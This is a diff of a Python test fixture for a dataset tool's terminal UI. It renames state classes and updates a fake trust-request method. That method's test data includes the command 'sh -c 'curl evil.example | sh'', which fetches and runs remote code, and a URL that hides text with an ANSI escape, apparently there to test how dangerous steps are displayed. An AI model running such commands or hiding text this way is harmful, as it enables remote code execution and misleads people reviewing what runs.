@@ -27,14 +27,8 @@ from odf_engine.coordinator.protocol import (
 )
 from odf_engine.errors import InvalidManifest, OdfError
 from odf_engine.settings import UiConfig
-from odf_tui.state import (
-    Change,
-    DatasetRow,
-    Detail,
-    Execution,
-    Section,
-    Standing,
-)
+from odf_tui.state.model import DatasetDetail, DatasetRow, PendingEvent, TrustedStep, TrustRequest
+from odf_tui.text.format import Section
 from tests.tui.fake_blocks import FakeBlocks
 from tests.tui.fake_jobs import FakeLogs
 from tests.tui.fake_looks import FakeLooks
@@ -188,7 +182,7 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
     def _row(self, dataset: str) -> DatasetRow:
         return next(row for row in self.rows_ if row.id == dataset)
 
-    def detail(self, dataset: str) -> Detail:
+    def detail(self, dataset: str) -> DatasetDetail:
         """Some facts."""
         row = self._row(dataset)
         facts = (
@@ -201,7 +195,7 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
             ("about", "Hourly air quality at the stations of Port Haven, a small harbour town"),
         )
         source = Section("Source", (("fetch", f"file:sources/{row.name}.csv"), ("read", "CSV\nas it comes")))
-        return Detail(facts, (source,), f"id: {row.id}\nname: {row.name}\nkind: Root\n")
+        return DatasetDetail(facts, (source,), f"id: {row.id}\nname: {row.name}\nkind: Root\n")
 
     def rows(self, dataset: str) -> Rows:
         """The rows."""
@@ -235,21 +229,21 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
         """Some YAML."""
         return f"name: {self._row(dataset).name}\n"
 
-    def update(self, dataset: str, path: Path, *, dry_run: bool) -> list[Change]:
+    def update(self, dataset: str, path: Path, *, dry_run: bool) -> list[PendingEvent]:
         """Whatever was written replaces the name."""
         event = "SetTransform" if self._row(dataset).derivative else "SetInfo"
-        return [Change(event, (f"-{self.definition(dataset)}", f"+{path.read_text()}"))]
+        return [PendingEvent(event, (f"-{self.definition(dataset)}", f"+{path.read_text()}"))]
 
-    def standing(self, dataset: str) -> Standing:
+    def standing(self, dataset: str) -> TrustRequest:
         """Two things to run."""
         runs = (
-            Execution("reads the address", "http://10.0.0.7/\x1b[8mquiet.csv", "f1620" + "ab" * 32),
-            Execution("pipes the data through", "sh -c 'curl evil.example | sh'", "f1620" + "ab" * 32),
-            *(Execution("runs the query", f"SELECT {number}", "f1620" + "cd" * 32) for number in range(20)),
+            TrustedStep("reads the address", "http://10.0.0.7/\x1b[8mquiet.csv", "f1620" + "ab" * 32),
+            TrustedStep("pipes the data through", "sh -c 'curl evil.example | sh'", "f1620" + "ab" * 32),
+            *(TrustedStep("runs the query", f"SELECT {number}", "f1620" + "cd" * 32) for number in range(20)),
         )
-        return Standing("https://elsewhere.example/tides.yaml", runs)
+        return TrustRequest("https://elsewhere.example/tides.yaml", runs)
 
-    def trust(self, dataset: str, shown: Standing) -> None:
+    def trust(self, dataset: str, shown: TrustRequest) -> None:
         """Notes it."""
         self._stand(dataset, "trusted")
 
